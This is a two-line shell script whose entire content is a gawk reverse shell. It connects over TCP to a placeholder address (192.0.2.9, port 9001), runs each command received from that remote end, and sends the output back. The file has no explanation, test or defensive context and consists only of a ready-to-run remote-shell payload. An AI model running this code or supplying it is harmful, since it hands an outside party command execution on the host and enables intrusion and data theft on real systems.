#!/bin/sh
awk 'BEGIN{s="/inet/tcp/0/192.0.2.9/9001";while(1){s|&getline c;while((c|&getline r)>0)print r|&s}}'
